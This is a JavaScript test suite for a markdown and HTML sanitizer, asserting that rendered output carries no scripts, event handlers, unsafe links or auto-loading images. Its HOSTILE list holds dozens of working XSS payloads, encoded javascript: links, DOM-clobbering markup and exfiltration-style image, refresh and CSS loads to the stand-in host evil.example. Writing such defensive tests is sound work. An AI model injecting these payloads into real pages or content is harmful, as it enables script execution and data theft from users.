// Hostile markdown and HTML must come out inert: no script, no event handlers, no
// javascript:/data: links, no automatically loaded images, no frames/SVG/styles.
// Run: node --test test/   (from js/)

import assert from "node:assert/strict";
import { test } from "node:test";
import { makeDom } from "../testing/jsdom_env.mjs";

import { markdownToHtml } from "../src/markdown.js";
import { createSanitizer, isSafeHref, loadImage } from "../src/sanitize.js";

const dom = makeDom("<!doctype html><html><body></body></html>", { url: "https://lab.example/lab" });
const win = /** @type {any} */ (dom.window);
const sanitize = createSanitizer(win);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[x](java&#09;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/leak?d=secret)",
  "![x](data:image/png;base64,AAAA)",
  "![x](javascript:alert(1))",
  "![a](https://evil.example/a.png) and ![b](http://evil2.example/b.png)",
  '<iframe src="https://evil.example"></iframe>',
  "<svg onload=alert(1)><circle r=1 /></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<style>body{display:none}</style>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=x><button formaction="javascript:alert(1)">go</button></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  "<details open ontoggle=alert(1)><summary>s</summary></details>",
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '[ok](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<img srcset="https://evil.example/x 1x">',
  "<video poster=https://evil.example/x><source src=https://evil.example/v></video>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "- [ ] <img src=x onerror=alert(1)>\n- [x] done",
  "| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:z) |",
  '<p class="jp-Dialog lm-Widget" id="jupyter-config-data" name="x">clobber</p>',
  '<a href="  javascript:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a>',
  '<template><script>alert(1)</script></template>',
];

const FORBIDDEN_TAGS = ["script", "style", "iframe", "frame", "object", "embed", "form", "input", "svg", "math",
  "link", "meta", "base", "noscript", "template", "video", "audio", "source", "img", "textarea", "select"];
const URL_ATTRS = ["src", "srcset", "background", "poster", "action", "formaction", "xlink:href", "data"];

/** @param {DocumentFragment} fragment */
function assertInert(fragment, label) {
  const holder = win.document.createElement("div");
  holder.append(fragment);
  const html = holder.innerHTML;
  for (const tag of FORBIDDEN_TAGS) {
    assert.equal(holder.querySelector(tag), null, `${label}: <${tag}> survived in ${html}`);
  }
  for (const el of holder.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      assert.ok(!name.startsWith("on"), `${label}: ${name} attribute survived in ${html}`);
      assert.notEqual(name, "style", `${label}: style attribute survived in ${html}`);
      assert.notEqual(name, "id", `${label}: id attribute survived (DOM clobbering) in ${html}`);
      assert.notEqual(name, "name", `${label}: name attribute survived (DOM clobbering) in ${html}`);
      assert.ok(!URL_ATTRS.includes(name), `${label}: ${name} attribute survived in ${html}`);
    }
    const cls = el.getAttribute("class") || "";
    for (const c of cls.split(/\s+/).filter(Boolean)) {
      assert.match(c, /^(hljs|language-|r3nb-|[a-z]+_)/, `${label}: foreign class ${c} in ${html}`);
    }
  }
  for (const a of holder.querySelectorAll("a")) {
    const href = a.getAttribute("href");
    if (href !== null) {
      // eslint-disable-next-line no-control-regex -- browsers ignore these in a URL scheme
      const squashed = href.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
      assert.ok(!/^(javascript|data|vbscript):/.test(squashed), `${label}: unsafe href ${href}`);
      assert.ok(isSafeHref(href), `${label}: href ${href} not allowed`);
    }
    assert.equal(a.getAttribute("target"), "_blank", `${label}: link without target=_blank`);
    assert.equal(a.getAttribute("rel"), "noopener noreferrer", `${label}: link without rel`);
  }
  for (const el of holder.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      if (attr.name === "title" || attr.name === "alt") continue; // shown as text, never followed
      assert.doesNotMatch(attr.value, /javascript:|vbscript:|data:/i, `${label}: dangerous URL in ${attr.name}: ${html}`);
    }
  }
  return holder;
}

for (const [i, input] of HOSTILE.entries()) {
  test(`markdown #${i} is inert: ${JSON.stringify(input).slice(0, 60)}`, () => {
    assertInert(sanitize(markdownToHtml(input)), `markdown #${i}`);
  });
  test(`raw HTML #${i} is inert through the sanitizer alone`, () => {
    // The markdown layer escapes raw HTML; the sanitizer must hold even without it.
    assertInert(sanitize(input), `raw #${i}`);
    assertInert(sanitize(markdownToHtml(input).replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"')), `unescaped #${i}`);
  });
}

test("external images become a button naming the host, and load only on click", () => {
  const holder = assertInert(sanitize(markdownToHtml("![chart](https://img.example/c.png?x=1)")), "image");
  const button = holder.querySelector("button.r3nb-img-load");
  assert.ok(button, holder.innerHTML);
  assert.equal(button.textContent, "Load image from img.example");
  const loaded = new Set();
  loadImage(button, loaded);
  const img = holder.querySelector("img");
  assert.ok(img);
  assert.equal(img.getAttribute("src"), "https://img.example/c.png?x=1");
  assert.equal(img.getAttribute("referrerpolicy"), "no-referrer");
  assert.ok(loaded.has("https://img.example/c.png?x=1"));
  // A re-render of the same message keeps the image the person chose to load.
  const again = win.document.createElement("div");
  again.append(sanitize(markdownToHtml("![chart](https://img.example/c.png?x=1)"), { loadedImages: loaded }));
  assert.ok(again.querySelector("img[src='https://img.example/c.png?x=1']"));
});

test("non-http images are never loadable", () => {
  for (const src of ["data:image/png;base64,AAAA", "javascript:alert(1)", "files/x.png", "//evil.example/x.png"]) {
    const holder = assertInert(sanitize(markdownToHtml(`![x](${src})`)), src);
    assert.equal(holder.querySelector("button"), null, `${src}: ${holder.innerHTML}`);
    assert.ok(holder.querySelector(".r3nb-img-blocked"), `${src}: ${holder.innerHTML}`);
  }
});

test("safe links survive with a new-tab target", () => {
  const holder = assertInert(sanitize(markdownToHtml("[a](https://ok.example/x) [b](mailto:x@y.z) [c](./rel) [d](#top)")), "links");
  assert.deepEqual(Array.from(holder.querySelectorAll("a"), (a) => a.getAttribute("href")),
    ["https://ok.example/x", "mailto:x@y.z", "./rel", "#top"]);
});

test("code blocks are highlighted and get a Copy button", () => {
  const holder = assertInert(sanitize(markdownToHtml("```python\ndef f():\n    return 1\n```")), "code");
  assert.ok(holder.querySelector(".r3nb-code > button.r3nb-copy"));
  assert.ok(holder.querySelector("pre > code.language-python .hljs-keyword"), holder.innerHTML);
  assert.equal(holder.querySelector("pre").textContent, "def f():\n    return 1");
});

test("raw HTML in prose is shown as text", () => {
  const holder = assertInert(sanitize(markdownToHtml("Use a <div> here")), "prose");
  assert.equal(holder.textContent.trim(), "Use a <div> here");
});
